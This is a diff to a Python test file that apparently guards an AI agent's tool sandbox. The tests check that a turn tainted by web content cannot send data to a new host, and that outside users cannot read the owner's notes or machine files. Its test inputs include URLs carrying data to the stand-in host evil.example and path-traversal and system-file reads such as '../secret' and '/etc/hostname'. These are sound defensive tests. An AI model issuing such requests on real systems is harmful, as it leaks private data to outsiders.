@@ -60,6 +60,14 @@ class Refuses:
         self._book.decide(request.id, self.answer, "test")
 
 
+class Sees:
+    def can_look(self, agent_id: str) -> bool:
+        return True
+
+    async def look(self, context: ToolContext, data: bytes, mime_type: str, prompt: str) -> str:
+        return "a private picture"
+
+
 class Place:
     def __init__(self, folder: Path, **changes: Any) -> None:
         self.book = Approvals(folder / "book.json", SystemClock(), SystemIds())
@@ -74,7 +82,8 @@ class Place:
             settings=lambda _: ExecSettings(),
             running=self.manager.plan_of,
         )
-        tools = build_tools(ToolServices(processes=self.manager, grants=granted, env=os.environ))
+        services = ToolServices(processes=self.manager, grants=granted, env=os.environ, looker=Sees())
+        tools = build_tools(services)
         self.box = Toolbox({tool.name: tool for tool in tools}, self.gate)
         self.context: ToolContext = context(folder, clock=SystemClock(), ids=SystemIds(), **changes)
         (self.context.workspace / "f").write_text("#!/bin/sh\ntouch made\n")
@@ -375,3 +384,59 @@ def test_no_path_becomes_an_option_of_a_container(tmp_path: Path) -> None:
     spec = SandboxSpec(Backend.DOCKER, "/srv/a,readonly=false,source=/", image="debian")
     with pytest.raises(ToolError, match="without commas"):
         docker.command(spec, ["true"], cwd="/", variables=())
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("web_fetch", {"url": "https://evil.example/?words"}),
+        ("web_fetch", {"url": "evil.example/?words"}),
+        ("web_fetch", {"url": "  HTTPS://evil.example/?words"}),
+        ("web_fetch", {"url": "//evil.example/?words"}),
+        ("WebFetch", {"url": "evil.example"}),
+        ("image", {"image": "https://evil.example/x.png?words"}),
+        ("image", {"image": " HTTP://evil.example/x.png?words"}),
+        ("view_image", {"path": "http://evil.example/x.png"}),
+    ],
+)
+async def test_a_tainted_turn_reaches_no_new_host_however_it_is_named(
+    tmp_path: Path, tool: str, arguments: dict[str, Any]
+) -> None:
+    place = Place(tmp_path, taint=Taint(("web_fetch",)))
+    assert (await place.call(tool, **arguments)).startswith("Denied: a host new")
+    assert len(place.owner.asked) == 1
+
+
+@pytest.mark.parametrize("trust", [Trust.GROUP, Trust.EXTERNAL])
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("read", {"path": "MEMORY.md"}),
+        ("read", {"path": "memory/day.md"}),
+        ("read", {"path": "link"}),
+        ("image", {"image": "memory/shot.png"}),
+        ("image", {"image": "./x/../memory/shot.png"}),
+        ("grep", {"pattern": "x"}),
+        ("grep", {"pattern": "x", "path": "loop"}),
+        ("find", {"pattern": "*"}),
+        ("ls", {"path": "memory"}),
+        ("read", {"path": "/etc/hostname"}),
+        ("read", {"path": "../secret"}),
+        ("grep", {"pattern": "x", "path": ".."}),
+        ("image", {"image": "../shot.png"}),
+    ],
+)
+async def test_the_owners_notes_and_machine_are_closed_to_others(
+    tmp_path: Path, trust: Trust, tool: str, arguments: dict[str, Any]
+) -> None:
+    place = Place(tmp_path, trust=trust)
+    workspace = place.context.workspace
+    (workspace / "memory").mkdir()
+    for name in ("MEMORY.md", "memory/day.md", "memory/shot.png", "../secret", "../shot.png"):
+        (workspace / name).write_bytes(b"\x89PNG\r\n\x1a\n private")
+    (workspace / "link").symlink_to("MEMORY.md")
+    (workspace / "loop").symlink_to(".")
+    text = await place.call(tool, **arguments)
+    assert text.startswith("Denied"), text
+    assert "private" not in text
+    assert place.owner.asked == []
